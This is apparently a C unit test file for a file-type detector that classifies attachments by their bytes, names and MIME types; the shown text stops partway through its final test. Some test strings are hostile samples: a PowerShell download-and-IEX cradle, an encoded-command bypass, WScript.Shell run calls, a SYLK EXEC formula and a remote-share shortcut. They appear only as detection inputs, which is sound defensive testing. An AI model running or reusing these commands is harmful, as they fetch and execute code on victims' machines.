/* test-filetype - every type from hand-made bytes, OOXML refinement
   through real zips (built with libzip in memory), the name and MIME
   maps, and the compatibility table. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

#include <zip.h>

#include "filetype.h"

static struct limits lim;

static enum file_type
det(const void *d, size_t len, const char *name)
{
	return filetype_detect(d, len, name, &lim);
}

static enum file_type
dets(const char *s, const char *name)
{
	return det(s, strlen(s), name);
}

/* Detect a string literal, NULs included. */
#define DETL(lit, name) det(lit, sizeof(lit) - 1, name)

#define ASSERT_TYPE(want, got) \
	assert_string_equal(filetype_name(want), filetype_name(got))

/* ---- zips ---- */

struct zentry {
	const char *name, *data;
};

/* A zip of the given entries (deflated), malloc'd into *len. */
static unsigned char *
make_zip(const struct zentry *e, size_t n, size_t *len)
{
	zip_error_t err;
	zip_source_t *src, *s;
	zip_t *za;
	zip_stat_t st;
	unsigned char *out;
	size_t i;

	zip_error_init(&err);
	src = zip_source_buffer_create(NULL, 0, 0, &err);
	assert_non_null(src);
	za = zip_open_from_source(src, ZIP_TRUNCATE, &err);
	assert_non_null(za);
	zip_source_keep(src);
	for (i = 0; i < n; i++) {
		s = zip_source_buffer(za, e[i].data, strlen(e[i].data), 0);
		assert_non_null(s);
		assert_true(zip_file_add(za, e[i].name, s, 0) >= 0);
	}
	assert_int_equal(zip_close(za), 0);
	assert_int_equal(zip_source_open(src), 0);
	zip_stat_init(&st);
	assert_int_equal(zip_source_stat(src, &st), 0);
	out = malloc(st.size);
	assert_non_null(out);
	assert_int_equal(zip_source_read(src, out, st.size), (zip_int64_t)st.size);
	zip_source_close(src);
	zip_source_free(src);
	zip_error_fini(&err);
	*len = st.size;
	return out;
}

static enum file_type
zip_detect(const struct zentry *e, size_t n)
{
	size_t len;
	unsigned char *z = make_zip(e, n, &len);
	enum file_type t = det(z, len, "x.bin");

	free(z);
	return t;
}

#define CT_HEAD "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>" \
	"<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">" \
	"<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>" \
	"<Default Extension=\"xml\" ContentType=\"application/xml\"/>"
#define RELS(target) "<?xml version=\"1.0\"?>" \
	"<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">" \
	"<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" Target=\"" target "\"/>" \
	"</Relationships>"

static char ctbuf[4096];

static const char *
ct_override(const char *part, const char *ct)
{
	snprintf(ctbuf, sizeof(ctbuf), CT_HEAD
	    "<Override PartName=\"%s\" ContentType=\"%s\"/></Types>", part, ct);
	return ctbuf;
}

/* A package with main part `part` typed `ct`, found through rels. */
static enum file_type
ooxml(const char *part, const char *ct)
{
	char rels[512];
	struct zentry e[3];

	snprintf(rels, sizeof(rels), RELS("%s"), part + 1);
	e[0] = (struct zentry){ "[Content_Types].xml", ct_override(part, ct) };
	e[1] = (struct zentry){ "_rels/.rels", rels };
	e[2] = (struct zentry){ part + 1, "<x/>" };
	return zip_detect(e, 3);
}

static void
test_ooxml_main_types(void **state)
{
	static const struct {
		const char *part, *ct;
		enum file_type t;
	} c[] = {
		{ "/word/document.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", FT_DOCX },
		{ "/word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml", FT_DOCM },
		{ "/word/document.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml", FT_DOTX },
		{ "/word/document.xml", "application/vnd.ms-word.template.macroEnabledTemplate.main+xml", FT_DOTM },
		{ "/xl/workbook.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml", FT_XLSX },
		{ "/xl/workbook.xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml", FT_XLSM },
		{ "/xl/workbook.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.template.main+xml", FT_XLTX },
		{ "/xl/workbook.xml", "application/vnd.ms-excel.template.macroEnabled.main+xml", FT_XLTM },
		{ "/xl/workbook.bin", "application/vnd.ms-excel.sheet.binary.macroEnabled.main", FT_XLSB },
		{ "/xl/workbook.xml", "application/vnd.ms-excel.addin.macroEnabled.main+xml", FT_XLAM },
		{ "/ppt/presentation.xml", "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml", FT_PPTX },
		{ "/ppt/presentation.xml", "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml", FT_PPTM },
		{ "/ppt/presentation.xml", "application/vnd.openxmlformats-officedocument.presentationml.template.main+xml", FT_POTX },
		{ "/ppt/presentation.xml", "application/vnd.ms-powerpoint.template.macroEnabled.main+xml", FT_POTM },
		{ "/ppt/presentation.xml", "application/vnd.openxmlformats-officedocument.presentationml.slideshow.main+xml", FT_PPSX },
		{ "/ppt/presentation.xml", "application/vnd.ms-powerpoint.slideshow.macroEnabled.main+xml", FT_PPSM },
		{ "/ppt/presentation.xml", "application/vnd.ms-powerpoint.addin.macroEnabled.main+xml", FT_PPAM },
		/* Case and parameters of the content type do not matter. */
		{ "/word/document.xml", " APPLICATION/vnd.ms-word.document.MACROENABLED.main+xml ; x=y", FT_DOCM },
		/* A main part where Office does not put it, found by rels. */
		{ "/hidden/main.xml", "application/vnd.ms-word.document.macroEnabled.main+xml", FT_DOCM },
		/* Unknown main content type: just a zip. */
		{ "/word/document.xml", "application/xml", FT_ZIP },
	};
	size_t i;

	for (i = 0; i < sizeof(c) / sizeof(c[0]); i++)
		ASSERT_TYPE(c[i].t, ooxml(c[i].part, c[i].ct));
}

static void
test_ooxml_resolution(void **state)
{
	const char *docm = "application/vnd.ms-word.document.macroEnabled.main+xml";
	char ct[4096];
	struct zentry e[3];

	/* No rels: the known path, its Override in odd case and encoding. */
	snprintf(ct, sizeof(ct), "%s", ct_override("/WORD/%64ocument.xml", docm));
	e[0] = (struct zentry){ "[Content_Types].xml", ct };
	e[1] = (struct zentry){ "word/document.xml", "<x/>" };
	ASSERT_TYPE(FT_DOCM, zip_detect(e, 2));

	/* Typed by a Default for its extension. */
	snprintf(ct, sizeof(ct), "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
	    "<Default Extension=\"XML\" ContentType=\"%s\"/></Types>", docm);
	e[0] = (struct zentry){ "[content_types].xml", ct };
	ASSERT_TYPE(FT_DOCM, zip_detect(e, 2));

	/* Rels target with ./ and ../ segments and a leading slash. */
	e[0] = (struct zentry){ "[Content_Types].xml", ct_override("/word/document.xml", docm) };
	e[1] = (struct zentry){ "_rels/.rels", RELS("/./x/../word/document.xml") };
	e[2] = (struct zentry){ "word/document.xml", "<x/>" };
	ASSERT_TYPE(FT_DOCM, zip_detect(e, 3));

	/* An Override in another namespace is not an Override. */
	snprintf(ct, sizeof(ct), "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
	    "<o:Override xmlns:o=\"urn:x\" PartName=\"/word/document.xml\" ContentType=\"%s\"/></Types>", docm);
	e[0] = (struct zentry){ "[Content_Types].xml", ct };
	ASSERT_TYPE(FT_ZIP, zip_detect(e, 3));

	/* An Override for a part that is not there does not count. */
	e[0] = (struct zentry){ "[Content_Types].xml", ct_override("/word/document.xml", docm) };
	e[1] = (struct zentry){ "other.xml", "<x/>" };
	ASSERT_TYPE(FT_ZIP, zip_detect(e, 2));

	/* Missing [Content_Types].xml but a main part: the OOXML module
	   judges it (it will find it malformed). */
	e[0] = (struct zentry){ "xl/workbook.xml", "<x/>" };
	ASSERT_TYPE(FT_XLSX, zip_detect(e, 1));

	/* A DOCTYPE (entity tricks) makes [Content_Types].xml unreadable:
	   same fallback, never an entity expansion. */
	snprintf(ct, sizeof(ct), "<!DOCTYPE Types [<!ENTITY a \"%s\">]>"
	    "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
	    "<Override PartName=\"/ppt/presentation.xml\" ContentType=\"&a;\"/></Types>",
	    "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml");
	e[0] = (struct zentry){ "[Content_Types].xml", ct };
	e[1] = (struct zentry){ "ppt/presentation.xml", "<x/>" };
	ASSERT_TYPE(FT_PPTX, zip_detect(e, 2));

	/* Broken XML, no main part: a zip. */
	e[0] = (struct zentry){ "[Content_Types].xml", "<Types" };
	e[1] = (struct zentry){ "readme.txt", "hello" };
	ASSERT_TYPE(FT_ZIP, zip_detect(e, 2));
}

static void
test_zip_other(void **state)
{
	static const unsigned char empty[22] = { 'P', 'K', 5, 6 };
	struct zentry e[2];

	e[0] = (struct zentry){ "a.txt", "hello" };
	ASSERT_TYPE(FT_ZIP, zip_detect(e, 1));
	ASSERT_TYPE(FT_ZIP, det(empty, sizeof(empty), NULL));
	ASSERT_TYPE(FT_ZIP, dets("PK\3\4 this is not really a zip", NULL));
	ASSERT_TYPE(FT_ZIP, dets("PK\7\10PK\3\4 spanned", NULL));
	/* OpenDocument: blocked as unsupported (macros would pass as text). */
	e[0] = (struct zentry){ "mimetype", "application/vnd.oasis.opendocument.text" };
	e[1] = (struct zentry){ "content.xml", "<x/>" };
	ASSERT_TYPE(FT_UNKNOWN, zip_detect(e, 2));
	e[0] = (struct zentry){ "META-INF/manifest.xml", "<x/>" };
	ASSERT_TYPE(FT_UNKNOWN, zip_detect(e, 2));
}

static void
test_zip_entry_limit(void **state)
{
	struct limits small = lim;
	struct zentry e[3] = {
		{ "[Content_Types].xml", ct_override("/word/document.xml",
		    "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml") },
		{ "word/document.xml", "<x/>" }, { "a", "b" },
	};
	size_t len;
	unsigned char *z = make_zip(e, 3, &len);

	ASSERT_TYPE(FT_DOCX, filetype_detect(z, len, NULL, &lim));
	small.archive_entries = 2;
	ASSERT_TYPE(FT_ZIP, filetype_detect(z, len, NULL, &small));
	small = lim;
	small.xml_nodes = 1;
	ASSERT_TYPE(FT_DOCX, filetype_detect(z, len, NULL, &small));
	free(z);
}

/* ---- binary signatures ---- */

static void
test_documents(void **state)
{
	static const unsigned char cfb[16] = {
		0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1,
	};
	unsigned char buf[1200];

	ASSERT_TYPE(FT_EMPTY, det("", 0, "a.txt"));
	ASSERT_TYPE(FT_PDF, dets("%PDF-1.7\n", "a.txt"));
	memset(buf, ' ', sizeof(buf));
	memcpy(buf + 1000, "%PDF-1.4", 8);
	ASSERT_TYPE(FT_PDF, det(buf, sizeof(buf), NULL));
	memset(buf + 1000, ' ', 8);
	memcpy(buf + 1100, "%PDF-1.4", 8);
	ASSERT_TYPE(FT_TEXT, det(buf, sizeof(buf), NULL));
	ASSERT_TYPE(FT_RTF, dets("{\\rtf1\\ansi hello}", "a.doc"));
	ASSERT_TYPE(FT_RTF, dets("{\\rt", NULL));
	ASSERT_TYPE(FT_RTF, dets("\357\273\277{\\rtf1}", NULL));
	ASSERT_TYPE(FT_OLE_OTHER, det(cfb, sizeof(cfb), "a.docx"));
}

static void
test_archives(void **state)
{
	unsigned char tar[1024];
	unsigned sum = 0;
	size_t i;

	ASSERT_TYPE(FT_GZIP, DETL("\037\213\010\0\0\0\0\0", NULL));
	ASSERT_TYPE(FT_7Z, DETL("7z\274\257\047\034\0\4", NULL));
	ASSERT_TYPE(FT_RAR, DETL("Rar!\032\007\0", NULL));
	ASSERT_TYPE(FT_RAR, DETL("Rar!\032\007\1\0", NULL));

	memset(tar, 0, sizeof(tar));
	strcpy((char *)tar, "hello.txt");
	memcpy(tar + 257, "ustar", 6);
	ASSERT_TYPE(FT_TAR, det(tar, sizeof(tar), NULL));
	/* v7: no magic, a valid checksum. */
	memset(tar + 257, 0, 6);
	memcpy(tar + 100, "0000644", 7);
	tar[156] = '0';
	for (i = 0; i < 512; i++)
		sum += i >= 148 && i < 156 ? ' ' : tar[i];
	snprintf((char *)tar + 148, 8, "%06o", sum);
	ASSERT_TYPE(FT_TAR, det(tar, sizeof(tar), NULL));
	tar[148] = '7';
	ASSERT_TYPE(FT_UNKNOWN, det(tar, sizeof(tar), NULL));
}

static void
test_disk_images(void **state)
{
	unsigned char *d = calloc(1, 0x9800);

	assert_non_null(d);
	memcpy(d + 0x8001, "CD001\1", 6);
	ASSERT_TYPE(FT_ISO, det(d, 0x9800, "a.pdf"));
	memset(d + 0x8001, 0, 6);
	memcpy(d + 0x9001, "CD001\1", 6);
	ASSERT_TYPE(FT_ISO, det(d, 0x9800, NULL));
	memset(d + 0x9001, 0, 6);
	memcpy(d + 0x8001, "BEA01\1", 6);
	ASSERT_TYPE(FT_ISO, det(d, 0x9800, NULL));
	/* The system area of an ISO may hold anything, even a PDF. */
	memcpy(d, "%PDF-1.4", 8);
	ASSERT_TYPE(FT_ISO, det(d, 0x9800, NULL));
	memset(d, 0, 0x9800);

	memcpy(d, "conectix", 8);
	ASSERT_TYPE(FT_VHD, det(d, 1024, NULL));
	memset(d, 0, 8);
	memcpy(d + 1024 - 512, "conectix", 8);
	ASSERT_TYPE(FT_VHD, det(d, 1024, NULL));
	memset(d + 512, 0, 8);
	memcpy(d, "vhdxfile", 8);
	ASSERT_TYPE(FT_VHD, det(d, 1024, NULL));
	memset(d, 0, 1024);

	d[510] = 0x55;
	d[511] = 0xaa;
	ASSERT_TYPE(FT_UNKNOWN, det(d, 1024, NULL));
	d[446] = 0x80;
	d[446 + 4] = 0x07;
	d[446 + 8] = 0x00; d[446 + 9] = 0x08;
	d[446 + 12] = 0x00; d[446 + 13] = 0x10;
	ASSERT_TYPE(FT_IMG, det(d, 1024, NULL));
	memset(d + 446, 0, 16);
	memcpy(d + 512, "EFI PART", 8);
	ASSERT_TYPE(FT_IMG, det(d, 1024, NULL));
	memset(d + 512, 0, 8);
	d[0] = 0xeb; d[1] = 0x3c; d[2] = 0x90; d[12] = 0x02;	/* FAT, 512 */
	ASSERT_TYPE(FT_IMG, det(d, 1024, NULL));
	free(d);
}

static void
test_images(void **state)
{
	unsigned char bmp[64] = { 'B', 'M' };

	ASSERT_TYPE(FT_JPEG, DETL("\377\330\377\340\0\020JFIF", "a.png"));
	ASSERT_TYPE(FT_PNG, DETL("\211PNG\r\n\032\n\0\0\0\rIHDR", NULL));
	ASSERT_TYPE(FT_GIF, dets("GIF87a\1\0\1\0", NULL));
	ASSERT_TYPE(FT_GIF, dets("GIF89a\1\0\1\0", NULL));
	ASSERT_TYPE(FT_TIFF, DETL("II*\0\10\0\0\0", NULL));
	ASSERT_TYPE(FT_TIFF, DETL("MM\0*\0\0\0\10", NULL));
	ASSERT_TYPE(FT_WEBP, DETL("RIFF\30\0\0\0WEBPVP8 ", NULL));
	ASSERT_TYPE(FT_UNKNOWN, DETL("RIFF\30\0\0\0WAVEfmt ", NULL));
	bmp[14] = 40;
	ASSERT_TYPE(FT_BMP, det(bmp, sizeof(bmp), NULL));
	ASSERT_TYPE(FT_TEXT, dets("BMW and Toyota sales figures for the year", NULL));
}

static void
test_programs(void **state)
{
	static const unsigned char lnk[24] = {
		0x4c, 0, 0, 0, 0x01, 0x14, 0x02, 0, 0, 0, 0, 0, 0xc0, 0, 0, 0,
		0, 0, 0, 0x46,
	};
	static const unsigned char one[20] = {
		0xe4, 0x52, 0x5c, 0x7b, 0x8c, 0xd8, 0xa7, 0x4d,
		0xae, 0xb1, 0x53, 0x78, 0xd0, 0x29, 0x96, 0xd3,
	};
	static const unsigned char onetoc[20] = {
		0xa1, 0x2f, 0xff, 0x43, 0xd9, 0xef, 0x76, 0x4c,
		0x9e, 0xe2, 0x10, 0xea, 0x57, 0x22, 0x76, 0x5f,
	};
	unsigned char pe[256];

	memset(pe, 0, sizeof(pe));
	memcpy(pe, "MZ", 2);
	pe[0x3c] = 0x80;
	memcpy(pe + 0x80, "PE\0\0", 4);
	ASSERT_TYPE(FT_PE, det(pe, sizeof(pe), "invoice.pdf"));
	memset(pe + 0x80, 0, 4);
	pe[2] = 0x90; pe[4] = 3;	/* a DOS program: e_cblp, e_cp */
	ASSERT_TYPE(FT_PE, det(pe, sizeof(pe), NULL));
	ASSERT_TYPE(FT_TEXT, dets("MZ, Mozambique, Maputo, 1975, and other rows", NULL));
	ASSERT_TYPE(FT_ELF, DETL("\177ELF\2\1\1\0", NULL));
	ASSERT_TYPE(FT_MACHO, DETL("\376\355\372\316\0\0\0\7", NULL));
	ASSERT_TYPE(FT_MACHO, DETL("\316\372\355\376\7\0\0\0", NULL));
	ASSERT_TYPE(FT_MACHO, DETL("\376\355\372\317\1\0\0\7", NULL));
	ASSERT_TYPE(FT_MACHO, DETL("\317\372\355\376\7\0\0\1", NULL));
	ASSERT_TYPE(FT_MACHO, DETL("\312\376\272\276\0\0\0\2", NULL));
	/* Java class (major 52): unsupported, not Mach-O. */
	ASSERT_TYPE(FT_UNKNOWN, DETL("\312\376\272\276\0\0\0\064", NULL));
	ASSERT_TYPE(FT_LNK, det(lnk, sizeof(lnk), "a.txt"));
	ASSERT_TYPE(FT_ONENOTE, det(one, sizeof(one), NULL));
	ASSERT_TYPE(FT_ONENOTE, det(onetoc, sizeof(onetoc), NULL));
	/* Executable beats a PDF header in the first 1024 bytes. */
	memcpy(pe + 0x80, "PE\0\0", 4);
	memcpy(pe + 0x90, "%PDF-1.4", 8);
	ASSERT_TYPE(FT_PE, det(pe, sizeof(pe), "a.pdf"));
}

/* ---- text ---- */

static void
test_text_encodings(void **state)
{
	static const unsigned char sjis[] = "\x93\xfa\x96\x7b\x8c\xea\x82\xcc\x95\xb6\x8f\xcd\x81\x42\xb1\xb2\r\n";
	static const unsigned char euc[] = "\xc6\xfc\xcb\xdc\xb8\xec\xa4\xce\xca\xb8\xbe\xcf\xa1\xa3\x8e\xb1\n";
	static const unsigned char jis[] = "\x1b$BF|K\\8l\x1b(B text\n";
	static const unsigned char u16le[] = "\xff\xfeh\0i\0 \0\xe5\x65\x2c\x67\n\0";
	static const unsigned char u16be[] = "\xfe\xff\0h\0i\x65\xe5\0\n";
	static const unsigned char bad16[] = "\xff\xfeh\0\0\xdc";

	ASSERT_TYPE(FT_TEXT, dets("plain ascii\r\n", NULL));
	ASSERT_TYPE(FT_TEXT, dets("\357\273\277日本語のテキスト\n", "memo.txt"));
	ASSERT_TYPE(FT_TEXT, det(sjis, sizeof(sjis) - 1, NULL));
	ASSERT_TYPE(FT_TEXT, det(euc, sizeof(euc) - 1, NULL));
	ASSERT_TYPE(FT_TEXT, det(jis, sizeof(jis) - 1, NULL));
	ASSERT_TYPE(FT_TEXT, det(u16le, sizeof(u16le) - 1, NULL));
	ASSERT_TYPE(FT_TEXT, det(u16be, sizeof(u16be) - 1, NULL));
	ASSERT_TYPE(FT_UNKNOWN, det(bad16, sizeof(bad16) - 1, NULL));
	ASSERT_TYPE(FT_UNKNOWN, DETL("text\0with nul", "a.txt"));
	ASSERT_TYPE(FT_UNKNOWN, DETL("\x01\x02\x03\x04\x05 control soup", NULL));
	ASSERT_TYPE(FT_UNKNOWN, DETL("\xff\xff\xfd\x80\x80\x80", NULL));
	/* Surrogates and overlong forms are not UTF-8 (nor SJIS here). */
	ASSERT_TYPE(FT_UNKNOWN, dets("\xed\xa0\x80\xff", NULL));
}

static void
test_markup(void **state)
{
	static const unsigned char u16html[] =
	    "\xff\xfe<\0h\0t\0m\0l\0>\0<\0/\0h\0t\0m\0l\0>\0";

	ASSERT_TYPE(FT_SVG, dets("<?xml version=\"1.0\"?>\n<!-- c -->\n"
	    "<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" [ <!ENTITY x \"<html>\"> ]>\n"
	    "<svg xmlns=\"http://www.w3.org/2000/svg\"/>", NULL));
	ASSERT_TYPE(FT_SVG, dets("<svg:svg xmlns:svg=\"http://www.w3.org/2000/svg\"/>", "a.txt"));
	ASSERT_TYPE(FT_HTML, dets("<!DOCTYPE html><p>hi", NULL));
	ASSERT_TYPE(FT_HTML, dets("\n\n  <HTML><body>x</body></HTML>", NULL));
	ASSERT_TYPE(FT_HTML, dets("Report\n<TABLE border=1><tr><td>1</td></tr></TABLE>", "a.txt"));
	ASSERT_TYPE(FT_TEXT, dets("Report\n<tablet> is not a tag", NULL));
	ASSERT_TYPE(FT_HTML, det(u16html, sizeof(u16html) - 1, NULL));
	ASSERT_TYPE(FT_HTA, dets("<html><head><HTA:APPLICATION ID=\"x\"/>"
	    "<script>new ActiveXObject('WScript.Shell')</script></head></html>", "a.html"));
	ASSERT_TYPE(FT_HTA, dets("<html><body>hi</body></html>", "a.hta"));
	ASSERT_TYPE(FT_WSF, dets("<job id=\"x\"><script language=\"JScript\">WScript.Echo(1)</script></job>", NULL));
	ASSERT_TYPE(FT_WSF, dets("<?XML version=\"1.0\"?><scriptlet><registration/><script language=\"JScript\"/></scriptlet>", NULL));
	/* Word 2003 XML / flat OPC and MMC consoles: unsupported. */
	ASSERT_TYPE(FT_UNKNOWN, dets("<?xml version=\"1.0\"?><?mso-application progid=\"Word.Document\"?><w:wordDocument/>", "a.xml"));
	ASSERT_TYPE(FT_UNKNOWN, dets("<?xml version=\"1.0\"?><MMC_ConsoleFile ConsoleVersion=\"3.0\"/>", NULL));
	ASSERT_TYPE(FT_TEXT, dets("<?xml version=\"1.0\"?><note><to>a</to></note>", "a.xml"));
	/* The name decides between readings of the same text. */
	ASSERT_TYPE(FT_HTML, dets("just words", "page.HTM"));
	/* Not clean text, but a browser renders it: HTML, not unknown. */
	ASSERT_TYPE(FT_HTML, DETL("<html><body>a\0b\xff\xfe</body>", "a.html"));
	ASSERT_TYPE(FT_HTML, DETL("\n<!DOCTYPE html>\0\xff", NULL));
	ASSERT_TYPE(FT_HTA, DETL("<html>\0<hta:application/>", NULL));
	ASSERT_TYPE(FT_JS, DETL("<html>\0\xff", "a.js"));
	ASSERT_TYPE(FT_UNKNOWN, DETL("hello\0<html>", "a.html"));
	ASSERT_TYPE(FT_UNKNOWN, DETL("<?mso-application?><html>\0", NULL));
	ASSERT_TYPE(FT_SVG, dets("just words", "pic.svg"));
}

static void
test_scripts(void **state)
{
	ASSERT_TYPE(FT_SHELL, dets("#!/bin/sh\necho hi\n", "a.txt"));
	ASSERT_TYPE(FT_BAT, dets("@ECHO OFF\r\nstart calc\r\n", NULL));
	ASSERT_TYPE(FT_BAT, dets("set x=1\r\ncall %~dp0run.cmd\r\n", NULL));
	ASSERT_TYPE(FT_PS1, dets("$c = New-Object Net.WebClient\n$c.DownloadString('http://x/') | IEX\n", NULL));
	ASSERT_TYPE(FT_PS1, dets("powershell -ExecutionPolicy Bypass -EncodedCommand SQBFAFgA", "run.txt"));
	ASSERT_TYPE(FT_VBS, dets("Dim s\r\nSet s = CreateObject(\"WScript.Shell\")\r\ns.Run \"calc\"\r\n", "invoice.pdf.txt"));
	ASSERT_TYPE(FT_JS, dets("var s = new ActiveXObject(\"WScript.Shell\"); s.Run(\"calc\");", "invoice.pdf.txt"));
	ASSERT_TYPE(FT_JS, dets("var s = WScript.CreateObject(\"WScript.Shell\");\ns.Run(\"calc\");", NULL));
	ASSERT_TYPE(FT_VBS, dets("#@~^XAAAAA==encoded", NULL));
	ASSERT_TYPE(FT_JS, dets("hello world", "readme.js"));
	ASSERT_TYPE(FT_JS, dets("hello world", "readme.JSE"));
	ASSERT_TYPE(FT_VBS, dets("hello world", "x.vbe"));
	ASSERT_TYPE(FT_PS1, dets("hello world", "x.ps1"));
	ASSERT_TYPE(FT_BAT, dets("hello world", "x.cmd"));
	ASSERT_TYPE(FT_BAT, dets("hello world", "x.bat. . "));
	ASSERT_TYPE(FT_WSF, dets("hello world", "x.wsf"));
	ASSERT_TYPE(FT_TEXT, dets("hello world", "x.txt"));
	ASSERT_TYPE(FT_TEXT, dets("Please review the script policy; thanks.", "memo.txt"));
	/* A text name never beats a binary signature. */
	ASSERT_TYPE(FT_PDF, dets("%PDF-1.4 hello", "x.js"));
}

static void
test_text_special(void **state)
{
	ASSERT_TYPE(FT_CSV, dets("a,b,c\n1,2,3\n", "data.csv"));
	ASSERT_TYPE(FT_CSV, dets("a\tb\n1\t2\n", "data.TSV"));
	ASSERT_TYPE(FT_TEXT, dets("a,b,c\n1,2,3\n", NULL));
	ASSERT_TYPE(FT_TEXT, dets("a,b,c\n1,2,3\n", "data.txt"));
	/* SYLK even under a CSV name (Excel reads it as SYLK). */
	ASSERT_TYPE(FT_UNKNOWN, dets("ID;P\nC;X1;Y1;EWINEXEC(\"calc\")\nE\n", "data.csv"));
	ASSERT_TYPE(FT_URL, dets("[InternetShortcut]\r\nURL=file://1.2.3.4/share/x.exe\r\n", NULL));
	ASSERT_TYPE(FT_URL, dets("[{000214A0-0000-0000-C000-000000000046}]\r\nProp3=19,9\r\n[InternetShortcut]\r\nURL=x\r\n", "a.txt"));
	ASSERT_TYPE(FT_URL, dets("anything", "a.url"));
	ASSERT_TYPE(FT_UNKNOWN, dets("Windows Registry Editor Version 5.00\r\n", "a.reg"));
	ASSERT_TYPE(FT_UNKNOWN, dets("[Shell]\r\nCommand=2\r\n", "a.SCF"));
	ASSERT_TYPE(FT_UNKNOWN, dets("WEB\r\n1\r\nhttp://x/\r\n", "q.iqy"));
	ASSERT_TYPE(FT_TEXT, dets("ID,Name\n1,x\n", NULL));
}

/* ---- names, MIME types, compatibility ---- */

static void
test_names(void **state)
{
	static const struct {
		const char *name;
		enum file_type t;
	} c[] = {
		{ "a.jpg", FT_JPEG }, { "a.JPEG", FT_JPEG }, { "a.jpe", FT_JPEG },
		{ "a.htm", FT_HTML }, { "a.html", FT_HTML }, { "a.xhtml", FT_HTML },
		{ "a.tif", FT_TIFF }, { "a.tiff", FT_TIFF }, { "a.cmd", FT_BAT },
		{ "a.jse", FT_JS }, { "a.vbe", FT_VBS }, { "a.txt", FT_TEXT },
		{ "a.log", FT_TEXT }, { "a.md", FT_TEXT }, { "a.tsv", FT_CSV },
		{ "a.eml", FT_UNKNOWN }, { "a.one", FT_ONENOTE }, { "a.iso", FT_ISO },
		{ "a.img", FT_IMG }, { "a.vhd", FT_VHD }, { "a.vhdx", FT_VHD },
		{ "a.docx", FT_DOCX }, { "a.DOCM", FT_DOCM }, { "a.xlsb", FT_XLSB },
		{ "a.exe", FT_PE }, { "a.scr", FT_PE }, { "a.lnk", FT_LNK },
		{ "a.url", FT_URL }, { "a.pdf", FT_PDF }, { "a.tar.gz", FT_GZIP },
		{ "dir/sub.d/a", FT_UNKNOWN }, { "C:\\x.y\\a.exe", FT_PE },
		{ "a.exe. ", FT_PE }, { "noext", FT_UNKNOWN }, { "a.", FT_UNKNOWN },
		{ "", FT_UNKNOWN }, { NULL, FT_UNKNOWN },
		{ "a.averyveryveryveryverylongextension", FT_UNKNOWN },
	};
	size_t i;

	for (i = 0; i < sizeof(c) / sizeof(c[0]); i++)
		ASSERT_TYPE(c[i].t, filetype_from_name(c[i].name));
}

static void
test_mimes(void **state)
{
	ASSERT_TYPE(FT_JPEG, filetype_from_mime("image/jpeg"));
	ASSERT_TYPE(FT_JPEG, filetype_from_mime("image/JPG"));
	ASSERT_TYPE(FT_ZIP, filetype_from_mime("application/x-zip-compressed"));
	ASSERT_TYPE(FT_CSV, filetype_from_mime("text/x-csv"));
	ASSERT_TYPE(FT_TEXT, filetype_from_mime(" text/plain ; charset=\"ISO-2022-JP\""));
	ASSERT_TYPE(FT_DOCM, filetype_from_mime("application/vnd.ms-word.document.macroenabled.12"));
	ASSERT_TYPE(FT_PDF, filetype_from_mime("application/pdf"));
	ASSERT_TYPE(FT_UNKNOWN, filetype_from_mime("application/octet-stream"));
	ASSERT_TYPE(FT_UNKNOWN, filetype_from_mime("application/x-whatever"));
	ASSERT_TYPE(FT_UNKNOWN, filetype_from_mime(NULL));
	ASSERT_TYPE(FT_PE, filetype_from_mime("application/x-msdownload"));
}

static void
test_compatible(void **state)
{
	static const struct {
		enum file_type declared, detected;
		bool ok;
	} c[] = {
		{ FT_UNKNOWN, FT_PE, true }, { FT_PDF, FT_PDF, true },
		{ FT_TEXT, FT_CSV, true }, { FT_TEXT, FT_EMPTY, true },
		{ FT_CSV, FT_TEXT, true }, { FT_TEXT, FT_JS, false },
		{ FT_TEXT, FT_HTML, false }, { FT_PDF, FT_PE, false },
		{ FT_DOCX, FT_DOCX, true }, { FT_DOCX, FT_DOCM, false },
		{ FT_DOCX, FT_DOTX, true }, { FT_DOCM, FT_DOCX, true },
		{ FT_XLSX, FT_XLSM, false }, { FT_XLSX, FT_XLSB, false },
		{ FT_XLSM, FT_XLAM, true }, { FT_PPTX, FT_PPSM, false },
		{ FT_DOCX, FT_XLSX, false },
		{ FT_XLSX, FT_OOXML_ENCRYPTED, true }, { FT_XLSX, FT_OLE_OTHER, true },
		{ FT_DOC, FT_OLE_OTHER, true }, { FT_DOC, FT_RTF, true },
		{ FT_DOC, FT_DOCX, false }, { FT_DOC, FT_DOCM, false },
		{ FT_DOC, FT_XLS, false }, { FT_XLS, FT_OOXML_ENCRYPTED, false },
		{ FT_XLS, FT_OLE_OTHER, true }, { FT_MSG, FT_OLE_OTHER, true },
		{ FT_DOCM, FT_OOXML_ENCRYPTED, true }, { FT_ZIP, FT_OLE_OTHER, false },
		{ FT_ZIP, FT_DOCX, true }, { FT_ZIP, FT_DOCM, true },
		{ FT_DOCX, FT_ZIP, false }, { FT_JPEG, FT_PNG, false },
		{ FT_IMG, FT_ISO, true }, { FT_ISO, FT_PDF, false },
		{ FT_RTF, FT_DOC, false }, { FT_PDF, FT_EMPTY, false },
	};
	size_t i;

	for (i = 0; i < sizeof(c) / sizeof(c[0]); i++) {
